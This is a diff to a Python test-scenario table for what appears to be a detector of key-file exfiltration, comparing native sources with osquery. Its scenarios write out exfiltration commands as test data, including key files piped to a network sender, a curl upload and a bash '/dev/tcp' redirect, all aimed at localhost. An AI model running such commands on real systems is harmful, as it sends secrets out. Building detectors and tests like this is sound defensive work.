@@ -173,7 +173,13 @@ class Scenario:
     scope: Optional[str] = None  # expected scope (native); attacks only
     osquery_scope: Optional[str] = None  # expected scope in osquery rows, if different
     native_only: str = ""  # why osquery rows cannot show this chain at all
+    #: Why the native sources may miss this chain (a known gap): the live test then
+    #: only checks that whatever is reported has the right scope and evidence.
+    native_gap: str = ""
     background: bool = False  # runs while the others run (a long delay)
+    #: Native: every member lives long enough for its pipe inodes to be read
+    #: (two members; a middle one may exit first), so pipe_shared is expected.
+    proven_pipe: bool = False
 
     @property
     def expected_osquery_scope(self) -> Optional[str]:
@@ -207,7 +213,7 @@ SCENARIOS: tuple[Scenario, ...] = (
         lambda r: r.sh("pipe").exec("cat", "/usr/bin/cat", "cat {key}")
         .exec("py", PY, "python3 sender.py {port} --stdin 1").read("cat", "{key}")
         .connect("py"),
-        scope="pipeline",
+        scope="pipeline", proven_pipe=True,
     ),
     Scenario(
         "cat_base64_pipe", A, "cat key | base64 | sender (two pipes, an encoder)",
@@ -236,7 +242,7 @@ SCENARIOS: tuple[Scenario, ...] = (
         lambda r: r.sh("pipe").exec("xxd", "/usr/bin/xxd", "xxd -p {key}")
         .exec("py", PY, "python3 sender.py {port} --stdin 1").read("xxd", "{key}")
         .connect("py"),
-        scope="pipeline",
+        scope="pipeline", proven_pipe=True,
     ),
     Scenario(
         "gzip_pipe", A, "gzip -c key | sender (compressed)",
@@ -244,7 +250,7 @@ SCENARIOS: tuple[Scenario, ...] = (
         lambda r: r.sh("pipe").exec("gz", "/usr/bin/gzip", "gzip -c {key}")
         .exec("py", PY, "python3 sender.py {port} --stdin 1").read("gz", "{key}")
         .connect("py"),
-        scope="pipeline",
+        scope="pipeline", proven_pipe=True,
     ),
     Scenario(
         "two_keys_pipe", A, "cat key key2 | sender (two catalogue files)",
@@ -252,7 +258,7 @@ SCENARIOS: tuple[Scenario, ...] = (
         lambda r: r.sh("pipe").exec("cat", "/usr/bin/cat", "cat {key} {key2}")
         .exec("py", PY, "python3 sender.py {port} --stdin 1").read("cat", "{key}")
         .read("cat", "{key2}").connect("py"),
-        scope="pipeline",
+        scope="pipeline", proven_pipe=True,
     ),
     Scenario(
         "copy_then_send", A, "cp key elsewhere, then curl uploads the copy (script steps)",
@@ -284,12 +290,12 @@ SCENARIOS: tuple[Scenario, ...] = (
         scope="process",
     ),
     Scenario(
-        "child_redirect", A, "sender < key: the forked child opens the key, then execs",
+        "redirect_in_parent", A,
+        "sh -c 'sender < key; ...': dash opens the key itself, the child inherits it",
         (_py("--stdin 1 --hold 0.02") + " < {key}",),
-        lambda r: r.sh("redirect").fork("child", "sh")
-        .read("child", "{key}").exec("child", PY, "python3 sender.py {port} --stdin 1")
-        .connect("child"),
-        scope="process",
+        lambda r: r.sh("redirect").read("sh", "{key}", parent="runner")
+        .exec("child", PY, "python3 sender.py {port} --stdin 1").connect("child"),
+        scope="lineage",
     ),
     Scenario(
         "dev_tcp", A, "bash -c 'cat key > /dev/tcp/127.0.0.1/PORT'",
@@ -297,6 +303,18 @@ SCENARIOS: tuple[Scenario, ...] = (
         lambda r: r.sh("x").exec("bash", "/usr/bin/bash", "bash -c 'cat {key} > /dev/tcp'")
         .fork("child", "bash").connect("child")
         .exec("child", "/usr/bin/cat", "cat {key}", parent="bash")
+        .read("child", "{key}", parent="bash"),
+        scope="process",
+        native_gap="the socket opens before the read and cat writes and exits within about a"
+        " millisecond: no hot tick sees it held, its close is unattributed (host scope)",
+    ),
+    Scenario(
+        "dev_tcp_held", A, "sleep | bash -c 'cat key - > /dev/tcp/...': the connection stays open",
+        ("sleep 0.3 | bash -c 'cat {key} - > /dev/tcp/127.0.0.1/{port}'",),
+        lambda r: r.sh("x").exec("sleep", "/usr/bin/sleep", "sleep 0.3")
+        .exec("bash", "/usr/bin/bash", "bash -c 'cat {key} - > /dev/tcp'")
+        .fork("child", "bash").connect("child")
+        .exec("child", "/usr/bin/cat", "cat {key} -", parent="bash")
         .read("child", "{key}", parent="bash"),
         scope="process",
     ),
@@ -324,7 +342,7 @@ SCENARIOS: tuple[Scenario, ...] = (
     ),
     Scenario(
         "udp", A, "reads the key and sends it in UDP datagrams",
-        (_py("--file {key} --udp 1"),),
+        (_py("--file {key} --udp 1 --hold 0.05"),),
         lambda r: r.sh("x").exec("py", PY, "python3 sender.py {port} --file {key} --udp 1")
         .read("py", "{key}").connect("py"),
         peer="udp", scope="process",
